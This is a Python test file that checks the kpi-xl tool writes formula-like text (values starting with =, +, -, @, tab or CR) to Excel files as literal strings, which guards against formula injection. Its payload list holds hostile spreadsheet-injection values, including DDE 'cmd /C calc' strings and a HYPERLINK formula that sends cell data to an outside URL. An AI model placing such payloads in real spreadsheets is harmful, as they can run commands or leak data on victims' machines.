"""Item 5 of issue 6: text data never becomes a formula.

Text that begins with ``=``, ``+``, ``-``, ``@``, tab or CR -- written by ``kpi-xl fill``
(CSV and Parquet, CLI and API, then recalculated again) or by the templates (their sample data
tables) -- must stay text in the file: in the sheet XML the cell has no ``<f>``, is a string
cell (``inlineStr``, ``s`` or ``str``) and holds the literal text.
"""

from __future__ import annotations

import dataclasses
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rel_support import kpi_xl, make_fill_template, sheet_cells

from kpi_xl.recalc.fill import fill

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\r\n", "\n", " =", "\t=", "\r=", "＝", "=="]
PAYLOADS = [
    "=1+1", "+1+1", "-2", "-2+3", "@SUM(1,2)", "\t=3", "\r=4", "\r\n=5", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?q="&A1,"click")', "=WEBSERVICE(\"http://x\")",
    "+cmd|'/c notepad'!A1", "-1)*SUM(A1:A9", "@A1", "=KPI_NPS(B1:B9)", "={1,2}", "=A1",
    "=_xlfn.SUM(1)", "=DDE(\"cmd\",\"/c calc\",\"x\")", "_x003D_1+1", "=1+1\r", "=\x01x",
    "'=1+1", "= 1", "=-1", "+", "-", "=", "@", "\t", "\r",
]
STRING_TYPES = {"inlineStr", "s", "str"}
#: Sample data holds no control characters (openpyxl refuses them) and no literal ``_xHHHH_``
#: (openpyxl writes it unescaped, so Excel would show "_x003D_" as "=": still text).
TEMPLATE_PAYLOADS = [p for p in PAYLOADS if "\x01" not in p and "_x" not in p]


def assert_text_cells(path: Path, expected: dict[str, str], part: str = "xl/worksheets/sheet1.xml"
                      ) -> None:
    cells = sheet_cells(path, part)
    for ref, text in expected.items():
        cell = cells.get(ref)
        assert cell is not None, f"{ref} missing from {part}"
        assert cell["f"] is None, f"{ref}: {text!r} became a formula <f>{cell['f']}</f>"
        assert cell["t"] in STRING_TYPES, f"{ref}: {text!r} is a t={cell['t']!r} cell"
        assert cell["text"] == text, f"{ref}: {text!r} stored as {cell['text']!r}"


def _expected(labels: list[str], notes: list[str]) -> dict[str, str]:
    """Where fill puts the texts (a blank -- NaN from CSV -- is written as no value)."""
    out = {}
    for i, (a, c) in enumerate(zip(labels, notes, strict=True), start=2):
        for col, text in (("A", a), ("C", c)):
            if isinstance(text, str):
                out[f"{col}{i}"] = text
    return out


# --- fill -------------------------------------------------------------------------------------

payloads = st.builds(lambda p, rest: p + rest, st.sampled_from(PREFIXES),
                     st.text(st.characters(exclude_categories=("Cs",)), max_size=16))


@settings(max_examples=12, deadline=None, suppress_health_check=list(HealthCheck))
@given(labels=st.lists(payloads, min_size=1, max_size=40))
def test_fill_writes_hostile_text_as_text(tmp_path_factory: pytest.TempPathFactory,
                                          labels: list[str]) -> None:
    folder = tmp_path_factory.mktemp("fill")
    tpl = make_fill_template(folder / "tpl.xlsx")
    notes = labels[::-1]
    data = pd.DataFrame({"Label": labels, "Amount": range(len(labels)), "Note": notes})
    fill(tpl, {"Sales": data}, folder / "out.xlsx")
    assert_text_cells(folder / "out.xlsx", _expected(labels, notes))
    cells = sheet_cells(folder / "out.xlsx")
    formulas = sorted(ref for ref, c in cells.items() if c["f"] is not None)
    assert formulas == sorted(["F1"] + [f"D{r}" for r in range(2, len(labels) + 2)])


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_cli_fill_then_recalc_keeps_text(tmp_path: Path, fmt: str) -> None:
    tpl = make_fill_template(tmp_path / "tpl.xlsx")
    labels = [p.replace("\x01", "") for p in PAYLOADS]
    notes = labels[::-1]
    data = pd.DataFrame({"Label": labels, "Amount": range(len(labels)), "Note": notes})
    src = tmp_path / f"data.{fmt}"
    if fmt == "csv":
        data.to_csv(src, index=False)
        from kpi_xl.io import read_table

        back = read_table(src)  # what the CSV holds, read as fill reads it
        labels, notes = back["Label"].tolist(), back["Note"].tolist()
    else:
        data.to_parquet(src)
    out = tmp_path / "out.xlsx"
    run = kpi_xl("fill", str(tpl), "--table", f"Sales={src}", "-o", str(out))
    assert run.returncode == 0, run.stderr
    assert_text_cells(out, _expected(labels, notes))
    # recalculating the filled workbook again must not turn anything into a formula either
    run = kpi_xl("recalc", "--in-place", "--no-backup", str(out))
    assert run.returncode == 0, run.stderr
    assert_text_cells(out, _expected(labels, notes))


# --- templates --------------------------------------------------------------------------------

def _template_specs() -> list[str]:
    from kpi_xl.templates.registry import TEMPLATES

    return [name for name, t in TEMPLATES.items()
            if any(c.kind in ("text", "choice") for tb in t.tables for c in tb.columns)]


@pytest.mark.parametrize("name", _template_specs())
def test_templates_write_hostile_sample_text_as_text(tmp_path: Path, name: str) -> None:
    """Every text/choice column of a template's data tables gets hostile text."""
    from kpi_xl.templates.builder import build
    from kpi_xl.templates.registry import TEMPLATES

    spec = TEMPLATES[name]
    written: dict[tuple[str, str], list[str]] = {}

    def hostile(rng, months, rows, _orig=spec.sample):
        frames = _orig(rng, months, rows)
        for tb in spec.tables:
            df = frames[tb.name]
            for c in tb.columns:
                if c.kind in ("text", "choice"):
                    vals = [f"{TEMPLATE_PAYLOADS[i % len(TEMPLATE_PAYLOADS)]}QQINJ{i}"
                            for i in range(len(df))]
                    df[c.name] = vals
                    written[(tb.name, c.name)] = vals
        return frames

    path = tmp_path / f"{name}.xlsx"
    build(dataclasses.replace(spec, sample=hostile), path, first_month="2024-01")
    assert written, "the template has text columns to fill"
    with zipfile.ZipFile(path) as z:
        parts = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    expected = {v for vals in written.values() for v in vals}
    found: set[str] = set()
    for part in parts:
        for ref, cell in sheet_cells(path, part).items():
            if cell["f"] is not None:
                assert "QQINJ" not in cell["f"], f"{part}!{ref}: data became <f>{cell['f']}</f>"
            if cell["text"] and "QQINJ" in cell["text"]:
                assert cell["t"] in STRING_TYPES and cell["text"] in expected, (part, ref, cell)
                found.add(cell["text"])
    assert found == expected, f"{len(expected - found)} hostile texts not stored literally"
